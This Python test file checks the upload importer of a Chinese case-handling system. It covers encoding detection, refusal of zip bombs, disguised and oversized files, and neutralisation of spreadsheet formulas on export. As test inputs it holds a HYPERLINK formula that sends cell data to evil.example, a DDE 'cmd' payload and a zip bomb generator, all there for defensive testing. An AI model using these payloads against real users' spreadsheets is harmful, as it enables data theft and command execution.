"""Files judged by their bytes: a GBK CSV from a government office is read in Chinese; a zip
bomb, a renamed picture, a Word file, a UTF-16 text, a file over 50 MB and a header nobody
knows are refused with a clear message and nothing written. Formulas stay text, and neither
the case export nor the error report hands them back to a spreadsheet as formulas."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from concord.audit.models import AuditEntry
from concord.cases.models import Case
from concord.imports import services
from concord.imports.models import ImportJob

from .conftest import CANONICAL, canonical, csv_bytes, upload, xlsx_bytes


def post(client, data: bytes, name: str, **fields):
    return client.post("/imports/", {"file": upload(data, name), **fields})


def import_now(client, response) -> ImportJob:
    """Confirm the previewed upload and run the queued job here."""
    assert response.status_code == 302, response.content.decode()
    job = ImportJob.objects.latest("pk")
    client.post(f"/imports/{job.pk}/start")
    services.run_import(job.pk)
    job.refresh_from_db()
    return job


def refused(response, status: int, text: str) -> None:
    page = response.content.decode()
    assert response.status_code == status, page
    assert text in page, page
    assert not ImportJob.objects.exists()
    assert not Case.objects.exists()


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig", "utf-8"])
def test_a_csv_in_gbk_or_utf8_is_detected_and_read_in_chinese(web, media, encoding):
    rows = [canonical(1, applicant_name="欧阳娜娜", description="噪音扰民，邻居装修至深夜。")]
    client = web("clerk")
    response = post(client, csv_bytes(rows, encoding=encoding), "来电.csv")
    preview = client.get(response.url).content.decode()
    expected = "GBK/GB18030" if encoding.startswith("gb") else "UTF-8"
    assert expected in preview and "欧阳娜娜" in preview
    job = import_now(client, response)
    assert job.created_count == 1
    case = Case.objects.get()
    assert case.description == "噪音扰民，邻居装修至深夜。"
    assert case.parties.get(role="applicant").name == "欧阳娜娜"


def test_a_utf16_text_is_refused_with_how_to_save_it(web, media):
    data = "\t".join(CANONICAL).encode("utf-16")
    refused(post(web("clerk"), data, "cases.csv"), 422, "请另存为「CSV UTF-8（逗号分隔）」")


def test_a_zip_bomb_named_xlsx_is_refused_before_it_is_unpacked(web, media):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<Types xmlns="spreadsheetml"/>')
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            zeros = bytes(1024 * 1024)
            for _ in range(300):  # 300 MB of zeros pack to about 300 KB
                sheet.write(zeros)
    assert len(buffer.getvalue()) < 2 * 1024 * 1024
    response = post(web("clerk"), buffer.getvalue(), "cases.xlsx")
    refused(response, 422, "Excel 文件解压后过大（疑似压缩炸弹），已拒绝")


def test_a_picture_renamed_to_xlsx_is_refused(web, media):
    png = b"\x89PNG\r\n\x1a\n" + bytes(2000)
    refused(
        post(web("clerk"), png, "cases.xlsx"),
        422,
        "上传的是PNG 图片，不是 Excel（.xlsx）或 CSV 文件",
    )
    jpeg = b"\xff\xd8\xff\xe0" + bytes(2000)
    refused(post(web("clerk"), jpeg, "cases.csv"), 422, "上传的是JPEG 图片")


def test_a_word_file_or_other_zip_is_not_a_workbook(web, media):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<Types><Override ContentType="wordprocessingml"/>')
        archive.writestr("word/document.xml", "<document/>")
    refused(post(web("clerk"), buffer.getvalue(), "cases.xlsx"), 422, "文件不是 Excel 工作簿")
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w") as archive:
        archive.writestr("cases.csv", "a,b")
    refused(post(web("clerk"), plain.getvalue(), "cases.xlsx"), 422, "压缩包不是 Excel 工作簿")


def test_a_file_over_50_mb_is_refused_with_413(web, media):
    data = csv_bytes([canonical(1)]) + b"," * (51 * 1024 * 1024)
    refused(post(web("clerk"), data, "big.csv"), 413, "文件不能超过50 MB（现为51.0 MB）")


def test_the_size_limit_is_configurable(web, media, settings):
    settings.CONCORD = {**settings.CONCORD, "IMPORT_MAX_BYTES": 1024}
    data = csv_bytes([canonical(i) for i in range(30)])
    refused(post(web("clerk"), data, "cases.csv"), 413, "文件不能超过0 MB")


def test_an_unknown_header_is_refused_listing_what_was_expected(web, media):
    data = csv_bytes([["1", "2"]], header=["编号", "内容"])
    response = post(web("clerk"), data, "cases.csv")
    refused(response, 422, "无法识别表头：没有找到必填的列")
    page = response.content.decode()
    assert "标准格式（SPEC §11）需要列：description" in page
    assert "12345 热线工单导出需要列：工单编号、来电时间、诉求内容" in page
    assert "文件的表头是：编号、内容" in page
    # Naming the profile: only its columns are listed.
    response = post(web("clerk"), data, "cases.csv", profile="12345")
    refused(response, 422, "需要列：工单编号、来电时间、诉求内容")
    assert "标准格式（SPEC §11）需要列" not in response.content.decode()


def test_a_file_with_only_a_header_or_nothing_is_refused(web, media):
    refused(post(web("clerk"), csv_bytes([]), "cases.csv"), 422, "文件只有表头，没有数据行")
    refused(post(web("clerk"), b"   \n", "cases.csv"), 422, "文件是空的")


def test_formulas_stay_text_and_never_reach_a_spreadsheet_as_formulas(web, media):
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    rows = [
        canonical(1, description=link, applicant_name="+cmd|' /C calc'!A0"),
        canonical(2, description="@SUM(1+1)"),
        canonical(3),
    ]
    data = xlsx_bytes(rows, formulas={(2, CANONICAL.index("title")): '=HYPERLINK("x","y")'})
    client = web("clerk")
    job = import_now(client, post(client, data, "orders.xlsx"))
    assert job.created_count == 3
    stored = Case.objects.get(source_id="LEGACY-000001")
    assert stored.description == link  # kept as the citizen's text, not evaluated
    assert Case.objects.get(source_id="LEGACY-000003").title == '=HYPERLINK("x","y")'

    export = client.get("/cases/export.xlsx")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if c.value.startswith(("=", "+", "@"))]
    assert "'" + '=HYPERLINK("x","y")' in [c.value for c in cells]


def test_the_error_report_neutralises_formulas_in_csv_and_xlsx(web, media):
    rows = [canonical(1, description="", title="=1+2", applicant_name="-2+3")]
    client = web("clerk")
    job = import_now(client, post(client, csv_bytes(rows), "orders.csv"))
    assert job.bad_count == 1
    text = client.get(f"/imports/{job.pk}/errors.csv").content.decode("utf-8-sig")
    assert "'=1+2" in text and "'-2+3" in text and ",=1+2" not in text
    book = load_workbook(io.BytesIO(client.get(f"/imports/{job.pk}/errors.xlsx").content))
    values = [c.value for row in book.worksheets[0].iter_rows() for c in row]
    assert "'=1+2" in values and "=1+2" not in values
    exports = AuditEntry.objects.filter(action="export", object_type="importjob")
    assert [e.detail["format"] for e in exports.order_by("seq")] == ["csv", "xlsx"]
    assert {e.actor.username for e in exports} == {"clerk"}


def test_a_workbook_declaring_too_small_a_sheet_is_read_to_its_last_row(web, media):
    data = xlsx_bytes([canonical(i) for i in range(5)])
    source, patched = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(patched, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            body = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1"', body)
            target.writestr(item, body)
    client = web("clerk")
    job = import_now(client, post(client, patched.getvalue(), "cases.xlsx"))
    assert job.created_count == 5
